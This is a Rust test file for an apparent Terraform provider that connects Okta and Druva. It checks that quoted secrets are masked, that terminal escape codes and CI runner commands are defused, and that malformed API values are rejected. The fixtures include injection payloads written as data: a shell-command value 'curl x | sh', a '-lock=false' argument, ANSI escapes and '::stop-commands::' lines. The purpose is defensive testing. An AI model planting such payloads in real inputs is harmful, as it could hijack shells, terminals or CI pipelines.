//! What Okta and Druva say: a text that quotes a secret, moves the terminal or commands a CI runner is shown and stored
//! without that; a value that must stay as it is, is an error then.

use serde_json::{Value, json};

use crate::druva_paths;
use crate::lab::{INTEGRATION, LINK, Lab};
use crate::memory::client_secrets;
use crate::minted::with_minted;

/// What a terminal or a runner would obey, and what is left of it.
const OBEYED: &str = "\u{1b}]0;x\u{7}\u{1b}[2J\n::stop-commands::x\r\n##[error]y \u{202e}z";
const HARMLESS: &str = "\u{fffd}]0;x\u{fffd}\u{fffd}[2J : :stop-commands::x  ## [error]y \u{fffd}z";

#[test]
fn a_reason_that_quotes_the_secret_is_shown_and_stored_without_it() {
    for lab in [Lab::with_both(), with_minted()] {
        let secret = client_secrets(&lab).pop().unwrap();
        let id = lab.sandbox.link()["id"].clone();
        let reason = format!("Okta refused \"{secret}\". {OBEYED}");
        lab.sandbox.drift(json!({"action": "disconnect_domain", "id": id, "reason": reason}));

        let plan = lab.terraform().args(["plan", "-no-color", "-out=plan"]).output().unwrap();
        lab.examine(&plan, "plan").expect_success().says(&["Okta refused"]);
        let printed = String::from_utf8_lossy(&plan.stdout);
        assert!(!printed.contains(['\u{1b}', '\u{7}', '\u{202e}']), "{printed}");
        let commands = ["::", "##["];
        let is_command = |line: &str| commands.iter().any(|command| line.trim_start().starts_with(command));
        assert!(!printed.lines().any(is_command), "{printed}");
        let shown = lab.terraform().args(["show", "-json", "plan"]).output().unwrap();
        let link: Value = serde_json::from_slice(&shown.stdout).unwrap();
        let reason = &link["resource_drift"][0]["change"]["after"]["status_reason"];
        assert_eq!(*reason, format!("Okta refused \"***\". {HARMLESS}"));

        lab.run(&["apply", "-refresh-only", "-auto-approve"]).expect_success();
        assert_eq!(lab.attributes(LINK)["status_reason"], format!("Okta refused \"***\". {HARMLESS}"));
    }
}

/// A list of Okta's or Druva's in which one member is replaced.
fn with_member(list: &Value, pointer: &str, value: &str) -> Value {
    let mut list = list.clone();
    *list.pointer_mut(pointer).expect(pointer) = json!(value);
    list
}

#[test]
fn a_value_that_holds_what_no_value_holds_is_an_error_and_its_object_is_not_gone() {
    let lab = Lab::with_both();
    let secret = client_secrets(&lab).pop().unwrap();
    let integration = &lab.attributes(INTEGRATION);
    let instances = json!([{
        "id": integration["id"], "type": integration["type"], "name": "n", "grantedScopes": ["okta.users.read"],
        "properties": {"orgId": "1"}, "createdAt": "2026-01-01T00:00:00Z",
    }]);
    let domains = json!({"domains": [lab.sandbox.link()]});
    let (control, unlike, quoted) = (
        "a member holds control characters",
        "an id is not made of letters",
        "a member holds what looks like a secret",
    );
    let links = druva_paths::links();
    for (side, path, list, pointer, value, why) in [
        ("okta", "/api-services$", &instances, "/0/id", "0oa1; curl x | sh", unlike),
        ("okta", "/api-services$", &instances, "/0/id", "-lock=false", unlike),
        ("okta", "/api-services$", &instances, "/0/type", "a\u{1b}[2Jb", control),
        ("okta", "/api-services$", &instances, "/0/grantedScopes/0", "okta.users.read\n::x::", control),
        ("okta", "/api-services$", &instances, "/0/grantedScopes/0", &secret, quoted),
        ("okta", "/api-services$", &instances, "/0/properties/orgId", "1\r2", control),
        ("okta", "/api-services$", &instances, "/0/properties/orgId", &secret, quoted),
        ("druva", links.as_str(), &domains, "/domains/0/id", "1\n2", unlike),
        ("druva", links.as_str(), &domains, "/domains/0/id", &secret, quoted),
        ("druva", links.as_str(), &domains, "/domains/0/oktaDomain", "example.okta.com\u{202e}", control),
        ("druva", links.as_str(), &domains, "/domains/0/clientId", &secret, quoted),
    ] {
        let body = with_member(list, pointer, value);
        lab.sandbox.fault(json!({
            "side": side, "method": "GET", "path": path, "times": 100, "do": {"respond": {"status": 200, "body": body}},
        }));
        lab.plan_fails().says(&["is not what the specification says", why]).does_not_say(&[
            "curl",
            "\u{1b}",
            "-lock=false",
        ]);
        assert!(lab.is_in_state(INTEGRATION) && lab.is_in_state(LINK), "{pointer} {value:?}");
        lab.sandbox.control("DELETE", "faults", None);
    }
    lab.plan_is_empty();
}
